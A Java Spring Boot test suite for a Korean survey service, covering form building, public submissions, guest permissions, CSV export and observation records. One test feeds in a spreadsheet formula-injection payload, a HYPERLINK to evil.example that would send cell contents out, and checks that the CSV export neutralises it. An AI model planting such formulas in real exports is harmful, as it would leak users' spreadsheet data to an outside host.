package kr.silheomjang.survey;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.security.access.AccessDeniedException;
import org.springframework.test.context.ActiveProfiles;

import kr.silheomjang.experiment.ExperimentService;
import kr.silheomjang.experiment.GuestScope;
import kr.silheomjang.experiment.InvitationService;
import kr.silheomjang.experiment.MemberRole;
import kr.silheomjang.security.AccountService;
import kr.silheomjang.shared.ConflictException;
import kr.silheomjang.shared.NotFoundOrDeniedException;
import kr.silheomjang.shared.UserFacingException;
import kr.silheomjang.support.Drafts;
import kr.silheomjang.support.Teams;
import kr.silheomjang.support.SignedIn;

@SpringBootTest
@ActiveProfiles("test")
class SurveyServiceTest {

    @Autowired
    Teams teams;
    @Autowired
    SurveyService surveys;
    @Autowired
    PublicSurveyService publicSurveys;
    @Autowired
    ObservationService observations;
    @Autowired
    ExperimentService experiments;
    @Autowired
    InvitationService invitations;
    @Autowired
    AccountService accounts;
    @Autowired
    SignedIn signedIn;

    String account(String name) {
        String email = "s" + System.nanoTime() + "@test.kr";
        accounts.createAccount(email, name, "password-123");
        return email;
    }

    long experimentOf(String email) {
        return signedIn.as(email, () -> experiments.create(Drafts.valid("설문 실험장")));
    }


    static String session() {
        return "session-" + System.nanoTime();
    }

    SurveySummary participantSurvey(String owner, long id) {
        return signedIn.as(owner, () -> surveys.list(id)).stream()
                .filter(s -> s.audience() == SurveyAudience.PARTICIPANT).findFirst().orElseThrow();
    }

    /** A custom form with one question of every type; returns its details. */
    SurveyDetails everyType(String owner, long id) {
        long sid = signedIn.as(owner, () -> surveys.create(id, "모든 유형"));
        SurveyDetails d = signedIn.as(owner, () -> surveys.get(id, sid));
        List<SurveyQuestion> qs = List.of(
                new SurveyQuestion(null, QuestionType.SHORT_TEXT, "이름(별명)", List.of(), false),
                new SurveyQuestion(null, QuestionType.LONG_TEXT, "소감", List.of(), true),
                new SurveyQuestion(null, QuestionType.SINGLE_CHOICE, "어떻게 알고 오셨나요?", List.of("지인", "SNS", "포스터"),
                        true),
                new SurveyQuestion(null, QuestionType.MULTIPLE_CHOICE, "좋았던 프로그램", List.of("강연", "토론", "체험"),
                        false),
                new SurveyQuestion(null, QuestionType.RATING, "만족도", List.of(), true),
                new SurveyQuestion(null, QuestionType.YES_NO, "다시 참여하시겠어요?", List.of(), false));
        signedIn.run(owner, () -> surveys.save(id, sid, d.version(), new SurveyDraft("모든 유형", null, null, qs)));
        return signedIn.as(owner, () -> surveys.get(id, sid));
    }

    static Map<Long, List<String>> answers(SurveyDetails d, String... values) {
        Map<Long, List<String>> m = new java.util.LinkedHashMap<>();
        for (int i = 0; i < values.length; i++) {
            if (values[i] != null) {
                m.put(d.questions().get(i).id(), Arrays.asList(values[i].split("\\|")));
            }
        }
        return m;
    }

    @Test
    void everyNewExperimentStartsWithTheGuidesParticipantSurveyAndFollowUpForm() {
        String owner = account("소유자");
        long id = experimentOf(owner);
        List<SurveySummary> list = signedIn.as(owner, () -> surveys.list(id));
        assertThat(list).extracting(SurveySummary::audience)
                .containsExactly(SurveyAudience.PARTICIPANT, SurveyAudience.FOLLOW_UP);
        assertThat(list).allMatch(s -> s.status() == SurveyStatus.OPEN && s.responseCount() == 0);
        assertThat(list.get(0).token()).hasSizeGreaterThanOrEqualTo(40).isNotEqualTo(list.get(1).token());

        SurveyDetails participant = signedIn.as(owner, () -> surveys.get(id, list.get(0).id()));
        assertThat(participant.questions()).extracting(SurveyQuestion::text).containsExactly(
                "본 실험이 참여자분들에게 어떻게 느껴지셨나요?", "해당 실험은 실현가능한 내용이라고 생각하시나요?",
                "추가적으로 제안하거나 하고 싶은 말이 있으시다면?");
        SurveyDetails followUp = signedIn.as(owner, () -> surveys.get(id, list.get(1).id()));
        assertThat(followUp.questions()).extracting(SurveyQuestion::text)
                .contains("좋았던 점", "아쉬웠던 점", "추후 보완하고 싶은 점");
        assertThat(followUp.questions().get(0).options()).containsExactly("스탭", "발표자", "촬영팀", "협력기관");
    }

    @Test
    void theBuilderSavesAllTypesReordersAndRefusesAStaleVersionNamingWhoSaved() {
        String owner = account("소유자");
        String planner = account("박기획");
        long id = experimentOf(owner);
        teams.join(owner, id, planner, MemberRole.PLANNER);
        SurveyDetails d = everyType(owner, id);
        assertThat(d.questions()).extracting(SurveyQuestion::type).containsExactly(QuestionType.values());
        assertThat(d.questions()).extracting(SurveyQuestion::required)
                .containsExactly(false, true, true, false, true, false);

        // The planner moves the last question to the top.
        List<SurveyQuestion> reordered = new ArrayList<>(d.questions());
        reordered.add(0, reordered.remove(5));
        signedIn.run(planner, () -> surveys.save(id, d.id(), d.version(),
                new SurveyDraft(d.title(), null, null, reordered)));
        SurveyDetails after = signedIn.as(owner, () -> surveys.get(id, d.id()));
        assertThat(after.questions().get(0).text()).isEqualTo("다시 참여하시겠어요?");
        assertThat(after.questions().get(0).id()).isEqualTo(d.questions().get(5).id());
        assertThat(after.updatedByName()).isEqualTo("박기획");

        // The owner still has the old version: refused, naming the planner, nothing written.
        assertThatThrownBy(() -> signedIn.run(owner, () -> surveys.save(id, d.id(), d.version(),
                new SurveyDraft("덮어쓰기", null, null, d.questions()))))
                .isInstanceOfSatisfying(ConflictException.class, e -> assertThat(e.changedBy()).isEqualTo("박기획"));
        assertThat(signedIn.as(owner, () -> surveys.get(id, d.id())).title()).isEqualTo("모든 유형");
    }

    @Test
    void badFormsAreRefusedWithAllReasonsAndNothingSaved() {
        String owner = account("소유자");
        long id = experimentOf(owner);
        SurveyDetails d = everyType(owner, id);
        Instant now = Instant.now();
        SurveyDraft bad = new SurveyDraft("", now, now.minusSeconds(60), List.of(
                new SurveyQuestion(null, QuestionType.SINGLE_CHOICE, "", List.of("하나"), false)));
        assertThatThrownBy(() -> signedIn.run(owner, () -> surveys.save(id, d.id(), d.version(), bad)))
                .isInstanceOfSatisfying(UserFacingException.class, e -> assertThat(e.messageKeys()).containsExactly(
                        "survey.error.title.required", "survey.error.closesBeforeOpens",
                        "survey.error.question.textRequired", "survey.error.options.tooFew"));
        assertThat(signedIn.as(owner, () -> surveys.get(id, d.id())).questions()).hasSize(6);
    }

    @Test
    void anyoneWithTheLinkAnswersAndResultsCountEveryType() {
        String owner = account("소유자");
        long id = experimentOf(owner);
        SurveyDetails d = everyType(owner, id);
        publicSurveys.submit(d.token(), answers(d, "민지", "좋았어요", "SNS", "강연|토론", "5", "YES"), "1.1.1.1",
                session());
        publicSurveys.submit(d.token(), answers(d, null, "그럭저럭", "SNS", "체험", "3", "NO"), "1.1.1.1",
                session());

        SurveyResults r = signedIn.as(owner, () -> surveys.results(id, d.id()));
        assertThat(r.responseCount()).isEqualTo(2);
        assertThat(r.questions().get(1).texts()).extracting(SurveyResults.TextAnswer::text).containsExactly("그럭저럭", "좋았어요");
        assertThat(r.questions().get(2).counts()).extracting(SurveyResults.OptionCount::count)
                .containsExactly(0L, 2L, 0L);
        assertThat(r.questions().get(3).counts()).extracting(SurveyResults.OptionCount::count)
                .containsExactly(1L, 1L, 1L);
        assertThat(r.questions().get(4).counts()).extracting(SurveyResults.OptionCount::count)
                .containsExactly(0L, 0L, 1L, 0L, 1L);
        assertThat(r.questions().get(5).counts()).extracting(SurveyResults.OptionCount::label, 
                SurveyResults.OptionCount::count).containsExactly(
                        org.assertj.core.groups.Tuple.tuple("YES", 1L), org.assertj.core.groups.Tuple.tuple("NO", 1L));
        assertThat(signedIn.as(owner, () -> surveys.list(id))).filteredOn(s -> s.id() == d.id())
                .extracting(SurveySummary::responseCount).containsExactly(2L);
    }

    /** People write names and numbers in free text: a guest reads it only when the owner shows them notes. */
    @Test
    void aPartnerGuestGetsCountsButNoFreeTextUntilTheOwnerShowsNotes() throws Exception {
        String owner = account("소유자");
        String partner = account("협력기관");
        long id = experimentOf(owner);
        teams.join(owner, id, partner, MemberRole.PARTNER_GUEST);
        SurveyDetails d = everyType(owner, id);
        publicSurveys.submit(d.token(), answers(d, "민지", "홍길동 010-1234-5678 연락 주세요", "SNS", "강연", "5", "YES"),
                "1.1.1.3", session());

        SurveyResults seen = signedIn.as(partner, () -> surveys.results(id, d.id()));
        assertThat(seen.responseCount()).isEqualTo(1);
        assertThat(seen.questions().get(1).texts()).isEmpty();
        assertThat(seen.questions().get(1).answered()).isEqualTo(1);
        assertThat(seen.questions().get(0).texts()).isEmpty();
        assertThat(seen.questions().get(2).counts()).extracting(SurveyResults.OptionCount::count)
                .containsExactly(0L, 1L, 0L);
        // The shared read is not changed for the members who read after the guest.
        assertThat(signedIn.as(owner, () -> surveys.results(id, d.id())).questions().get(1).texts())
                .extracting(SurveyResults.TextAnswer::text).containsExactly("홍길동 010-1234-5678 연락 주세요");

        String csv = new String(signedIn.as(partner, () -> surveys.exportCsv(id, d.id(), Locale.KOREAN)),
                StandardCharsets.UTF_8);
        assertThat(csv).doesNotContain("홍길동", "민지").contains("SNS", "강연", "5");
        assertThat(new String(signedIn.as(owner, () -> surveys.exportCsv(id, d.id(), Locale.KOREAN)),
                StandardCharsets.UTF_8)).contains("홍길동", "민지");
        assertThat(signedIn.as(partner, () -> surveys.answers(id, List.of(d.id()))))
                .extracting(SurveyAnswer::text).doesNotContain("민지", "홍길동 010-1234-5678 연락 주세요").contains("SNS");

        signedIn.run(owner, () -> experiments.setGuestScope(id, experiments.get(id).version(),
                new GuestScope(false, false, true)));
        assertThat(signedIn.as(partner, () -> surveys.results(id, d.id())).questions().get(1).texts())
                .extracting(SurveyResults.TextAnswer::text).containsExactly("홍길동 010-1234-5678 연락 주세요");
        assertThat(new String(signedIn.as(partner, () -> surveys.exportCsv(id, d.id(), Locale.KOREAN)),
                StandardCharsets.UTF_8)).contains("홍길동", "민지");
    }

    /** A form's public link lets whoever holds it answer as the form's party: guests get none of the team's forms. */
    @Test
    void aPartnerGuestGetsNoPublicLinkOfTheTeamsForms() {
        String owner = account("소유자");
        String partner = account("협력기관");
        long id = experimentOf(owner);
        teams.join(owner, id, partner, MemberRole.PARTNER_GUEST);
        SurveyDetails d = everyType(owner, id);

        assertThat(signedIn.as(partner, () -> surveys.list(id))).hasSize(3)
                .allSatisfy(s -> assertThat(s.token()).isNull());
        assertThat(signedIn.as(partner, () -> surveys.get(id, d.id())).token()).isNull();
        assertThat(signedIn.as(owner, () -> surveys.list(id))).allSatisfy(s -> assertThat(s.token()).isNotNull());
        assertThat(signedIn.as(owner, () -> surveys.get(id, d.id())).token()).isEqualTo(d.token());
    }

    @Test
    void aRepeatedSubmissionKeyIsStoredOnce() {
        String owner = account("소유자");
        long id = experimentOf(owner);
        SurveyDetails d = everyType(owner, id);
        var given = answers(d, "민지", "좋았어요", "SNS", "강연|토론", "5", "YES");
        String key = "k" + System.nanoTime() + "-retry_after_lost_connection";
        // The first try, a retry after the connection came back, a restored draft: one response.
        assertThat(publicSurveys.submit(d.token(), given, "7.7.7.7", session(), key)).isTrue();
        assertThat(publicSurveys.submit(d.token(), given, "7.7.7.7", session(), key)).isFalse();
        assertThat(publicSurveys.submit(d.token(), given, "7.7.7.8", session(), key)).isFalse();
        assertThat(signedIn.as(owner, () -> surveys.results(id, d.id())).responseCount()).isEqualTo(1);
        // Another form load, another key: a second response.
        assertThat(publicSurveys.submit(d.token(), given, "7.7.7.7", session(), key + "2")).isTrue();
        assertThat(signedIn.as(owner, () -> surveys.results(id, d.id())).responseCount()).isEqualTo(2);
        // A key that is not one of ours is refused before anything is written.
        assertRefused(() -> publicSurveys.submit(d.token(), given, "7.7.7.7", session(), "<script>"),
                "survey.error.answer.invalid");
    }

    @Test
    void missingRequiredOversizedAndInvalidAnswersAreRefusedInKoreanKeysAndNothingIsStored() {
        String owner = account("소유자");
        long id = experimentOf(owner);
        SurveyDetails d = everyType(owner, id);
        assertRefused(() -> publicSurveys.submit(d.token(), answers(d, "민지", null, "SNS", null, "5", null),
                "2.2.2.2", session()), "survey.error.answer.required");
        String tooLong = "가".repeat(QuestionType.LONG_TEXT.maxLength() + 1);
        assertRefused(() -> publicSurveys.submit(d.token(), answers(d, null, tooLong, "SNS", null, "5", null),
                "2.2.2.2", session()), "survey.error.answer.tooLong");
        assertRefused(() -> publicSurveys.submit(d.token(), answers(d, null, "좋음", "라디오", null, "6", "MAYBE"),
                "2.2.2.2", session()), "survey.error.answer.invalid");
        assertRefused(() -> publicSurveys.submit(d.token(), Map.of(999_999L, List.of("x")), "2.2.2.2", session()),
                "survey.error.unknownQuestion");
        // A required answer made only of invisible characters is no answer.
        for (String invisible : List.of("\u200B", "\u00A0\u200B\u3000", "\u3164", "\uFEFF\u2060")) {
            assertRefused(() -> publicSurveys.submit(d.token(), answers(d, null, invisible, "SNS", null, "5", null),
                    "2.2.2.2", session()), "survey.error.answer.required");
        }
        assertThat(signedIn.as(owner, () -> surveys.results(id, d.id())).responseCount()).isZero();
    }

    @Test
    void anAnonymousFormulaAnswerReachesTheCsvNeutralised() throws Exception {
        String owner = account("소유자");
        long id = experimentOf(owner);
        SurveyDetails d = everyType(owner, id);
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")";
        publicSurveys.submit(d.token(), answers(d, "@SUM(1+1)", formula, "SNS", null, "5", null), "6.6.6.6",
                session());

        byte[] bytes = signedIn.as(owner, () -> surveys.exportCsv(id, d.id(), Locale.KOREAN));
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        List<CSVRecord> rows = CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text)).getRecords();
        assertThat(rows).extracting(r -> r.get("답변")).contains("'@SUM(1+1)", "'" + formula, "SNS", "5");
        assertThat(rows).allSatisfy(r -> assertThat(r.get("답변")).doesNotStartWith("=").doesNotStartWith("@"));
    }

    @Test
    void theCsvDownloadedFromTheEnglishUiHasEnglishHeadersAndYesNo() throws Exception {
        String owner = account("소유자");
        long id = experimentOf(owner);
        SurveyDetails d = everyType(owner, id);
        publicSurveys.submit(d.token(), answers(d, null, "좋음", "SNS", null, "4", SurveyService.YES), "7.7.7.7",
                session());

        String english = new String(signedIn.as(owner, () -> surveys.exportCsv(id, d.id(), Locale.ENGLISH)),
                StandardCharsets.UTF_8);
        var parser = CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(english.substring(1)));
        assertThat(parser.getHeaderNames())
                .containsExactly("Response no.", "Submitted at", "Question no.", "Question", "Answer");
        List<CSVRecord> rows = parser.getRecords();
        assertThat(rows).extracting(r -> r.get("Answer")).contains("Yes").doesNotContain("예");

        String korean = new String(signedIn.as(owner, () -> surveys.exportCsv(id, d.id(), null)),
                StandardCharsets.UTF_8);
        assertThat(korean).as("Korean without a locale").contains("응답 번호,제출 시각").contains(",예");
    }

    @Test
    void wrongTokenClosedAndNotYetOpenSurveysRefuseCleanly() {
        String owner = account("소유자");
        long id = experimentOf(owner);
        SurveyDetails d = everyType(owner, id);
        assertRefused(() -> publicSurveys.open("no-such-token"), "survey.error.notFound");
        assertRefused(() -> publicSurveys.open("x".repeat(500)), "survey.error.notFound");
        Map<Long, List<String>> ok = answers(d, null, "좋음", "SNS", null, "4", null);

        Instant now = Instant.now();
        signedIn.run(owner, () -> surveys.save(id, d.id(), d.version(), new SurveyDraft(d.title(),
                now.minus(Duration.ofHours(2)), now.minus(Duration.ofHours(1)), d.questions())));
        assertRefused(() -> publicSurveys.open(d.token()), "survey.error.closed");
        assertRefused(() -> publicSurveys.submit(d.token(), ok, "3.3.3.3", session()), "survey.error.closed");

        SurveyDetails closed = signedIn.as(owner, () -> surveys.get(id, d.id()));
        assertThat(closed.status()).isEqualTo(SurveyStatus.CLOSED);
        signedIn.run(owner, () -> surveys.save(id, d.id(), closed.version(), new SurveyDraft(d.title(),
                now.plus(Duration.ofHours(1)), null, d.questions())));
        assertRefused(() -> publicSurveys.submit(d.token(), ok, "3.3.3.3", session()), "survey.error.notYetOpen");
        assertThat(signedIn.as(owner, () -> surveys.results(id, d.id())).responseCount()).isZero();
    }

    @Test
    void oneSessionCannotFloodTheForm() {
        String owner = account("소유자");
        long id = experimentOf(owner);
        SurveyDetails d = everyType(owner, id);
        String session = session();
        Map<Long, List<String>> ok = answers(d, null, "좋음", "SNS", null, "4", null);
        for (int i = 0; i < kr.silheomjang.security.SubmissionThrottle.PER_SESSION; i++) {
            publicSurveys.submit(d.token(), ok, "4.4.4.4", session);
        }
        assertRefused(() -> publicSurveys.submit(d.token(), ok, "4.4.4.4", session), "survey.error.rateLimited");
        publicSurveys.submit(d.token(), ok, "4.4.4.4", session());
        assertThat(signedIn.as(owner, () -> surveys.results(id, d.id())).responseCount())
                .isEqualTo(kr.silheomjang.security.SubmissionThrottle.PER_SESSION + 1);
    }

    @Test
    void answersKeepTheWordingTheyWereGivenAndTheCsvExportParsesBack() throws Exception {
        String owner = account("소유자");
        long id = experimentOf(owner);
        SurveySummary s = participantSurvey(owner, id);
        SurveyDetails d = signedIn.as(owner, () -> surveys.get(id, s.id()));
        publicSurveys.submit(s.token(), answers(d, "신기했어요, \"정말\"\n두 줄", "네", null), "5.5.5.5", session());

        // The form is edited afterwards: the first question reworded, the second removed.
        List<SurveyQuestion> edited = List.of(
                new SurveyQuestion(d.questions().get(0).id(), QuestionType.LONG_TEXT, "바뀐 질문", List.of(), true),
                d.questions().get(2));
        signedIn.run(owner, () -> surveys.save(id, s.id(), d.version(), new SurveyDraft(d.title(), null, null,
                edited)));

        byte[] bytes = signedIn.as(owner, () -> surveys.exportCsv(id, s.id(), Locale.KOREAN));
        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text)).getRecords();
        assertThat(rows).hasSize(2);
        assertThat(rows.get(0).get("질문")).isEqualTo("본 실험이 참여자분들에게 어떻게 느껴지셨나요?");
        assertThat(rows.get(0).get("답변")).isEqualTo("신기했어요, \"정말\"\n두 줄");
        assertThat(rows.get(1).get("질문")).isEqualTo("해당 실험은 실현가능한 내용이라고 생각하시나요?");
        assertThat(rows.get(1).get("답변")).isEqualTo("네");
        assertThat(rows.get(0).get("응답 번호")).isEqualTo(rows.get(1).get("응답 번호"));

        SurveyResults r = signedIn.as(owner, () -> surveys.results(id, s.id()));
        assertThat(r.questions()).extracting(SurveyResults.QuestionResult::text)
                .containsExactly("바뀐 질문", "추가적으로 제안하거나 하고 싶은 말이 있으시다면?",
                        "해당 실험은 실현가능한 내용이라고 생각하시나요?");
        assertThat(r.questions().get(2).current()).isFalse();
        assertThat(r.questions().get(2).texts()).extracting(SurveyResults.TextAnswer::text).containsExactly("네");
    }

    @Test
    void observationsCheckPhotosAndOnlyTheOwnerRecordsVerdicts() {
        String owner = account("소유자");
        String planner = account("박기획");
        String partner = account("협력기관");
        long id = experimentOf(owner);
        teams.join(owner, id, planner, MemberRole.PLANNER);
        teams.join(owner, id, partner, MemberRole.PARTNER_GUEST);
        long q = signedIn.as(owner, () -> experiments.get(id)).questions().get(0).id();
        byte[] png = { (byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0 };

        long obs = signedIn.as(planner, () -> observations.add(id, q, "빨대 없이도 불편해하지 않았다", png, "image/png"));
        assertRefused(() -> signedIn.as(planner, () -> observations.add(id, q, "가짜 사진", "GIF89a....".getBytes(),
                "image/png")), "survey.error.photo.type");
        assertRefused(() -> signedIn.as(planner, () -> observations.add(id, q, "큰 사진",
                new byte[ObservationService.MAX_PHOTO_BYTES + 1], "image/png")), "survey.error.photo.tooLarge");
        assertRefused(() -> signedIn.as(planner, () -> observations.add(id, q, " ", null, null)),
                "survey.error.note.required");
        assertThatThrownBy(() -> signedIn.as(partner, () -> observations.add(id, q, "게스트 메모", null, null)))
                .isInstanceOf(AccessDeniedException.class);

        // Notes name people and photos show faces: a partner guest reads none of it until the owner shows notes.
        assertThat(signedIn.as(partner, () -> observations.mayRead(id))).isFalse();
        assertThat(signedIn.as(partner, () -> observations.list(id))).isEmpty();
        assertThatThrownBy(() -> signedIn.as(partner, () -> observations.photo(id, obs)))
                .isInstanceOf(AccessDeniedException.class);
        assertThat(signedIn.as(planner, () -> observations.list(id))).hasSize(1);
        signedIn.run(owner, () -> experiments.setGuestScope(id, experiments.get(id).version(),
                new GuestScope(true, true, false)));
        assertThat(signedIn.as(partner, () -> observations.list(id))).as("contacts and needs are not notes").isEmpty();
        signedIn.run(owner, () -> experiments.setGuestScope(id, experiments.get(id).version(),
                new GuestScope(false, false, true)));
        assertThat(signedIn.as(partner, () -> observations.mayRead(id))).isTrue();
        List<ObservationView> log = signedIn.as(partner, () -> observations.list(id));
        assertThat(log).singleElement().satisfies(o -> {
            assertThat(o.note()).isEqualTo("빨대 없이도 불편해하지 않았다");
            assertThat(o.questionText()).isEqualTo("플라스틱 빨대를 안쓰는 것만으로도 환경에 도움을 줄까?");
            assertThat(o.authorName()).isEqualTo("박기획");
            assertThat(o.hasPhoto()).isTrue();
        });
        assertThat(signedIn.as(partner, () -> observations.photo(id, obs)).data()).isEqualTo(png);

        assertThatThrownBy(() -> signedIn.run(planner, () -> observations.saveVerdict(id, q, null,
                VerdictOutcome.EFFECT_SEEN, "관찰 1건"))).isInstanceOf(AccessDeniedException.class);
        assertRefused(() -> signedIn.run(owner, () -> observations.saveVerdict(id, q, null, null, "")),
                "survey.error.verdict.outcomeRequired");
        signedIn.run(owner, () -> observations.saveVerdict(id, q, null, VerdictOutcome.EFFECT_SEEN,
                "관찰 기록 1건, 설문 응답 2건"));
        VerdictView v = signedIn.as(partner, () -> observations.verdicts(id)).get(0);
        assertThat(v.outcome()).isEqualTo(VerdictOutcome.EFFECT_SEEN);
        assertThat(v.updatedByName()).isEqualTo("소유자");
        // A second "first" verdict (someone saw none) is a conflict, not an overwrite.
        assertThatThrownBy(() -> signedIn.run(owner, () -> observations.saveVerdict(id, q, null,
                VerdictOutcome.NOT_SEEN, "다른 근거"))).isInstanceOf(ConflictException.class);
        signedIn.run(owner, () -> observations.saveVerdict(id, q, v.version(), VerdictOutcome.UNCLEAR, "재검토"));
        assertThat(signedIn.as(owner, () -> observations.verdicts(id)).get(0).outcome())
                .isEqualTo(VerdictOutcome.UNCLEAR);
    }

    @Test
    void aMemberOfAnotherExperimentGetsNothingThroughAnyMethod() {
        String owner = account("소유자");
        String stranger = account("남");
        long id = experimentOf(owner);
        signedIn.as(stranger, () -> experiments.create(Drafts.valid("남의 실험장")));
        SurveyDetails d = everyType(owner, id);
        long q = signedIn.as(owner, () -> experiments.get(id)).questions().get(0).id();
        long obs = signedIn.as(owner, () -> observations.add(id, q, "관찰", null, null));
        List<Runnable> calls = List.of(
                () -> surveys.list(id),
                () -> surveys.get(id, d.id()),
                () -> surveys.create(id, "침입"),
                () -> surveys.save(id, d.id(), d.version(), new SurveyDraft("침입", null, null, d.questions())),
                () -> surveys.results(id, d.id()),
                () -> surveys.exportCsv(id, d.id(), Locale.KOREAN),
                () -> observations.questions(id),
                () -> observations.list(id),
                () -> observations.add(id, null, "침입", null, null),
                () -> observations.photo(id, obs),
                () -> observations.verdicts(id),
                () -> observations.saveVerdict(id, q, null, VerdictOutcome.NOT_SEEN, "침입"));
        for (Runnable call : calls) {
            assertThatThrownBy(() -> signedIn.run(stranger, call)).isInstanceOf(NotFoundOrDeniedException.class);
        }
        // Its own experiment id with someone else's survey id: also nothing.
        long own = signedIn.as(stranger, () -> experiments.listMine(false, 0, 10)).get(0).id();
        assertThatThrownBy(() -> signedIn.run(stranger, () -> surveys.results(own, d.id())))
                .isInstanceOf(NotFoundOrDeniedException.class);
        assertThatThrownBy(() -> surveys.list(id))
                .isInstanceOf(org.springframework.security.core.AuthenticationException.class);
        assertThat(signedIn.as(owner, () -> surveys.list(id))).hasSize(3);
        assertThat(signedIn.as(owner, () -> observations.list(id))).hasSize(1);
    }

    static void assertRefused(Runnable call, String key) {
        assertThatThrownBy(call::run).isInstanceOfSatisfying(UserFacingException.class,
                e -> assertThat(e.messageKeys()).contains(key));
    }

    static void assertRefused(java.util.function.Supplier<?> call, String key) {
        assertRefused((Runnable) call::get, key);
    }

    /** Options are kept one per line in a 2,000-character column: more is refused in words, never by the database. */
    @Test
    void optionsUpToTheirColumnAreKeptAndLongerAreRefused() {
        String owner = account("소유자");
        long id = experimentOf(owner);
        SurveyDetails d = everyType(owner, id);
        List<SurveyQuestion> tooLong = List.of(new SurveyQuestion(null, QuestionType.SINGLE_CHOICE, "어느 쪽?",
                options(11, 200), false));
        assertThatThrownBy(() -> signedIn.run(owner, () -> surveys.save(id, d.id(), d.version(),
                new SurveyDraft("긴 선택지", null, null, tooLong))))
                .isInstanceOfSatisfying(UserFacingException.class,
                        e -> assertThat(e.messageKeys()).containsExactly("survey.error.options.tooLong"));
        assertThat(signedIn.as(owner, () -> surveys.get(id, d.id())).questions()).hasSize(6);

        List<String> longest = options(10, 199); // 10 × 199 + 9 line breaks = 1,999
        signedIn.run(owner, () -> surveys.save(id, d.id(), d.version(), new SurveyDraft("긴 선택지", null, null,
                List.of(new SurveyQuestion(null, QuestionType.SINGLE_CHOICE, "어느 쪽?", longest, false)))));
        assertThat(signedIn.as(owner, () -> surveys.get(id, d.id())).questions().getFirst().options())
                .isEqualTo(longest);
    }

    private static List<String> options(int count, int length) {
        return java.util.stream.IntStream.range(0, count)
                .mapToObj(i -> (char) ('가' + i) + "선".repeat(length - 1)).toList();
    }
}
